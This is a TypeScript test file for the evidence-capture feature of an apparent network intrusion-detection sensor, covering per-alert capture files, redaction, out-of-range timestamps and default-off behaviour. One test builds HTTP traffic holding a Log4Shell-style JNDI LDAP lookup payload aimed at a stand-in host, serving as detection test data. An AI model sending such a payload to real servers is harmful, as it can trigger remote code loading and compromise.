/** `read` with evidence: the file of an alert shows the alert again, is its owner's alone, and has its comments. */
import { existsSync, readdirSync, readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { framesOf } from '../support/conversation.js';
import { PcapngWriter } from '../support/pcap-writer.js';
import { inRoot } from '../support/root.js';
import { Folder, parseEvents, periscope, type EveEvent } from '../support/sensor.js';

const folder = new Folder();
afterAll(() => folder.remove());

const inspect = async (captures: readonly string[], directory: string, ...settings: string[]): Promise<EveEvent[]> => {
  const set = [`evidence.directory=${directory}`, ...settings].flatMap((setting) => ['--set', setting]);
  const { status, stdout, stderr } = await periscope(['read', ...captures, '--rules', inRoot('rules'), ...set]);
  expect({ status, stderr }).toEqual({ status: 0, stderr: '' });
  return parseEvents(stdout);
};
type WithFile = EveEvent & { readonly capture_file: string };

describe('evidence', () => {
  it('is a file for each flow that alerts, in which the alert is found again', async () => {
    const directory = folder.at('evidence');
    const captures = [inRoot('samples/mirrored.pcap'), inRoot('samples/web-attack.pcap')];
    const alerts = (await inspect(captures, directory)) as WithFile[];
    const names = [...new Set(alerts.map(({ capture_file: name }) => name))].sort();
    expect(names.length).toBeGreaterThan(5);
    expect(readdirSync(directory).sort()).toEqual(names);
    for (const name of names) expect(statSync(join(directory, name)).mode & 0o777).toBe(0o600);
    for (const { alert, capture_file: name } of alerts) {
      const text = readFileSync(join(directory, name), 'latin1');
      // Of the file, or of the packet.
      expect(text).toContain(`rule 1:${alert.signature_id}:`);
    }
    const mirrored = alerts.find(({ tunnel }) => tunnel?.vni === 4712)!;
    const file = readFileSync(join(directory, mirrored.capture_file), 'latin1');
    expect(file.match(/; vni 4712/g)).toHaveLength(2);
    const again = await inspect(
      names.map((each) => join(directory, each)),
      folder.at('again'),
    );
    const sids = (events: readonly EveEvent[]): number[] => events.map(({ alert }) => alert.signature_id).sort();
    expect(sids(again)).toEqual(sids(alerts));
    expect(again.every(({ tunnel }) => tunnel === undefined)).toBe(true);
  });

  it('shows nothing of what is to be redacted', async () => {
    const directory = folder.at('redacted');
    const settings = ['redact.patterns=jndi', 'redact.fields=src_ip', 'eve.payload=true', 'eve.payloadPrintable=true'];
    const [alert] = await inspect([inRoot('samples/mirrored.pcap')], directory, ...settings);
    expect(alert!.src_ip).toBe('[redacted]');
    const [name] = readdirSync(directory);
    const written = [JSON.stringify(alert), readFileSync(join(directory, name!), 'latin1')];
    const payload = Buffer.from((alert as unknown as { payload: string }).payload, 'base64').toString('latin1');
    for (const text of [...written, payload]) expect(text).not.toContain('jndi');
    expect(payload).toContain('XXXX');
  });

  it('is of captures whose times are beyond all years, too', async () => {
    const directory = folder.at('beyond');
    const capture = new PcapngWriter().interface({ resolution: 0 });
    const said = [['>', 'GET /?x=${jndi:ldap://192.0.2.1/a} HTTP/1.1\r\nHost: a\r\n\r\n']] as const;
    for (const { bytes } of framesOf({ serverPort: 80, host: 1, said }))
      capture.enhanced({ bytes, timeNs: 2n ** 63n * 1_000_000_000n });
    const [alert] = (await inspect([folder.write('beyond.pcapng', capture.finish())], directory)) as WithFile[];
    expect(readdirSync(directory)).toEqual([alert!.capture_file]);
  });

  it('is off unless asked for', async () => {
    const { stdout } = await periscope(['read', inRoot('samples/mirrored.pcap'), '--rules', inRoot('rules')]);
    expect(stdout).not.toContain('capture_file');
    expect(existsSync('evidence')).toBe(false);
  });
});
